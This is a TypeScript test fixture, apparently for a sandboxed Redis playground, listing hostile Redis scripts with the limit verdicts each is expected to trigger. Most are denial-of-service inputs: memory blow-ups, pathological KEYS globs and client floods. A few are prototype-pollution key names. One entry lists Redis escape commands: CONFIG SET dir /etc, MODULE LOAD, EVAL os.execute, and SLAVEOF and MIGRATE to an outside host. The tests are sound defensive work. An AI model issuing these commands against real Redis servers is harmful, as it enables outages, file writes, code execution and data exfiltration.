import type { Limits } from '../../../server/contract/limits.ts';
import type { Verdict } from '../../../server/contract/report.ts';

/** Redis commands that attack, with how they have to end; several verdicts where it is a race. `line` is where they were stopped. */
export interface HostileScript { name: string; code: string; verdicts: Verdict[]; line?: number; limits?: Partial<Limits>; stdoutContains?: string }

const SOON = { timeMs: 400 };
const lines = (count: number, line: (number: number) => string): string => Array.from({ length: count }, (_, number) => line(number)).join('\n');
const PIECE = 'x'.repeat(30_000);

export const hostileScripts: HostileScript[] = [
  { name: 'a command repeated a billion times', code: 'PING\n999999999 INCR n', verdicts: ['output-limit'], line: 2, stdoutContains: 'PONG\n(integer) 1\n(integer) 2\n' },
  { name: 'a transaction that is never full', code: 'MULTI\n999999999 INCR n\nEXEC', verdicts: ['output-limit'], line: 2, stdoutContains: 'QUEUED' },
  { name: 'a pattern with many stars', code: `SET ${'a'.repeat(20_000)} 1\nKEYS ${'a*'.repeat(30)}b`, verdicts: ['timed-out'], line: 2, limits: SOON, stdoutContains: 'OK' },
  { name: 'a pattern with more stars than are looked at', code: `SET a 1\nKEYS ${'*a'.repeat(20_000)}\nECHO done`, verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'counting the bits of a large string again and again', code: 'SETRANGE big 15000000 x\n999999 BITCOUNT big', verdicts: ['timed-out'], line: 2, limits: SOON, stdoutContains: '(integer) 15000001' },
  { name: 'changing a large string again and again', code: 'SETRANGE big 15000000 x\n999999 SETRANGE big 7000000 y', verdicts: ['timed-out', 'out-of-memory', 'output-limit'], line: 2, limits: SOON },
  { name: 'half a gigabyte at once', code: 'SETRANGE big 536870900 x', verdicts: ['out-of-memory'], line: 1 },
  { name: 'the farthest bit', code: 'ECHO first\nSETBIT bits 4294967295 1', verdicts: ['out-of-memory'], line: 2, stdoutContains: 'first' },
  { name: 'beyond what Redis allows itself', code: 'SETRANGE big 536870912 x\nSETBIT bits 4294967296 1\nECHO done', verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'a string that grows', code: `999999 APPEND log ${PIECE}`, verdicts: ['out-of-memory'], line: 1, stdoutContains: '(integer) 30000\n' },
  { name: 'many large strings', code: lines(200, (number) => `SETRANGE big${number} 15000000 x\nGETBIT big${number} 5`), verdicts: ['out-of-memory'] },
  { name: 'copies of a large string, all of them read', code: `SETRANGE big 10000000 x\n${lines(200, (number) => `COPY big copy${number}\nSETBIT copy${number} ${number} 1\nGETBIT copy${number} 5`)}`, verdicts: ['out-of-memory'] },
  { name: 'one of a few, a hundred million times', code: 'SADD s a b\nSRANDMEMBER s -100000000', verdicts: ['out-of-memory'], line: 2 },
  { name: 'one of a few, as often as fits', code: 'HSET h a 1 b 2\nHRANDFIELD h -500000 WITHVALUES', verdicts: ['output-limit', 'out-of-memory'], line: 2 },
  { name: 'printing what is large', code: 'SETRANGE big 10000000 x\nGET big', verdicts: ['output-limit'], line: 2, stdoutContains: '\\x00\\x00' },
  { name: 'a list of large strings', code: `SETRANGE big 1000000 x\n${lines(30, () => 'LPUSH l a')}\nMGET ${'big '.repeat(10_000)}`, verdicts: ['output-limit', 'out-of-memory'], line: 32 },
  { name: 'nested replies without end', code: `MULTI\n${lines(60, () => 'LRANGE l 0 -1')}\nEXEC\nRPUSH l ${'a '.repeat(20_000)}\nMULTI\n${lines(60, () => 'LRANGE l 0 -1')}\nEXEC`, verdicts: ['output-limit'] },
  { name: 'a sleep of a thousand years', code: 'SET a 1 EX 5\nDEBUG SLEEP 1e300\nGET a\nDEBUG SLEEP 31536000000\nBLPOP q 9000000000000\nTIME\nSET b 1 EX 100\nXADD s * f v\nECHO done', verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'waiting for ever', code: 'BLPOP nothing 0\nGET a', verdicts: ['error'], stdoutContains: '' },
  { name: 'the ends of 64 bits', code: [
    'LRANGE l -9223372036854775808 9223372036854775807', 'GETRANGE s 0 9223372036854775807', 'LPUSH l a', 'LPOP l 9223372036854775807', 'ZRANGE z -9223372036854775808 -1',
    'SETRANGE s 9223372036854775807 x', 'EXPIRE l 9223372036854775807', 'SCAN 9999999999999999999', 'XADD x 18446744073709551615-18446744073709551615 f v', 'XADD x * f v', 'XRANGE x - + COUNT 9223372036854775807',
    'INCRBYFLOAT f 1e4900', 'INCRBYFLOAT f -1e-4900', 'BITCOUNT s -9223372036854775808 9223372036854775807 BIT', 'ECHO done',
  ].join('\n'), verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'sums of very long numbers', code: `999 INCRBYFLOAT f ${'9'.repeat(4_000)}\n99999 INCRBYFLOAT g 1e-4900\nECHO done`, verdicts: ['passed', 'output-limit', 'timed-out'] },
  { name: 'names of JavaScript', code: 'HSET h __proto__ 1 constructor 2 toString 3\nHGETALL h\nSET __proto__ polluted\nGET constructor\n__proto__\nconstructor a\nOBJECT __proto__ a\nCONFIG GET __proto__\n#@ __proto__\nHGET h __proto__\nECHO done', verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'a server’s ways out', code: 'CONFIG SET dir /etc\nDEBUG JMAP\nMODULE LOAD /tmp/x.so\nEVAL "return os.execute(1)" 0\nSLAVEOF example.org 6379\nMIGRATE example.org 6379 k 0 1\nSAVE\nSHUTDOWN\nSCRIPT LOAD x\nECHO done', verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'a very long word', code: `${'F'.repeat(60_000)}\nECHO done`, verdicts: ['passed'], stdoutContains: 'done' },
  { name: 'thousands of clients, all of them waiting', code: `${lines(2_000, (number) => `#@ c${number}\nBLPOP q 5`)}\n#@ main\nRPUSH q a b c`, verdicts: ['passed'] },
  { name: 'thousands of subscribers', code: `${lines(1_500, (number) => `#@ c${number}\nSUBSCRIBE news`)}\n#@ main\n9999 PUBLISH news ${'x'.repeat(1_000)}`, verdicts: ['output-limit'] },
];
